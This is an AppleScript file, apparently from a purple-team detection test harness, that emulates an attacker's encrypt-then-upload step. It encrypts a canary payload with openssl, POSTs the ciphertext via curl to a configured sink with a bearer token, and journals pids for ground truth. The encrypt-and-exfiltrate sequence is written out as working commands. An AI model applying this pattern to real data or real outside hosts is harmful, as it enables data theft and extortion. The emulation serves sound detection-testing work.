-- Encrypt-then-upload emulation in AppleScript (macOS): `do shell script` runs openssl enc on the
-- canary payload, then curl uploads the ciphertext to the harness sink. Benign by construction.
-- usage: osascript encrypt-upload.applescript
-- Every command is built in one `set …Cmd to` line from literals, variables and `quoted form of`,
-- so test/scenarios/applescript.test.ts can evaluate exactly what the shell receives.

on run argv
	set payloadPath to system attribute "PURPLE_PAYLOAD"
	set outPath to system attribute "PURPLE_OUT"
	set passFile to system attribute "PURPLE_PASSFILE"
	set sinkUrl to system attribute "PURPLE_SINK_URL"
	set sinkToken to system attribute "PURPLE_SINK_TOKEN"
	set journalPath to system attribute "PURPLE_JOURNAL"
	set authHeader to "Authorization: Bearer " & sinkToken
	set myPid to do shell script "echo $PPID"
	set myPpid to do shell script "ps -o ppid= -p $PPID | tr -d ' '"

	my journal(journalPath, "start", myPid, myPpid, "{\"script\": \"encrypt-upload.applescript\"}")

	set encCmd to "openssl enc -aes-256-cbc -pbkdf2 -salt -pass file:" & quoted form of passFile & " -in " & quoted form of payloadPath & " -out " & quoted form of outPath
	-- Background then wait: the child's real pid and its parent sh come back on stdout.
	set encPids to do shell script encCmd & " </dev/null >/dev/null 2>&1 & echo $! $$; wait $!"
	set encBytes to do shell script "wc -c < " & quoted form of outPath & " | tr -d ' '"
	my journal(journalPath, "encrypt", word 1 of encPids, word 2 of encPids, "{\"tool\": \"openssl\", \"cipher\": \"aes-256-cbc-pbkdf2\", \"bytes\": " & encBytes & ", \"via\": \"do shell script\"}")

	set upCmd to "curl -sS --fail -o /dev/null -X POST -H " & quoted form of authHeader & " --data-binary @" & quoted form of outPath & " " & quoted form of sinkUrl
	set upPids to do shell script upCmd & " </dev/null >/dev/null 2>&1 & echo $! $$; wait $!"
	set hostPort to do shell script "printf %s " & quoted form of sinkUrl & " | sed -e 's#^[a-z]*://##' -e 's#/.*$##'"
	my journal(journalPath, "upload", word 1 of upPids, word 2 of upPids, "{\"tool\": \"curl\", \"protocol\": \"http\", \"destination\": \"" & hostPort & "\", \"bytes\": " & encBytes & ", \"via\": \"do shell script\"}")

	my journal(journalPath, "exit", myPid, myPpid, "{\"code\": 0}")
end run

-- Appends one ground-truth JSON line. AppleScript has no millisecond clock, so perl supplies it.
on journal(journalPath, action, pidText, ppidText, detailsJson)
	if journalPath is "" then return
	set nowMs to do shell script "perl -MTime::HiRes=time -e 'printf(\"%.3f\", time() * 1000)'"
	set jsonLine to "{\"time_ms\": " & nowMs & ", \"action\": \"" & action & "\", \"pid\": " & pidText & ", \"ppid\": " & ppidText & ", \"details\": " & detailsJson & "}" & linefeed
	set fh to open for access (POSIX file journalPath) with write permission
	try
		write jsonLine to fh starting at eof as «class utf8»
	end try
	close access fh
end journal
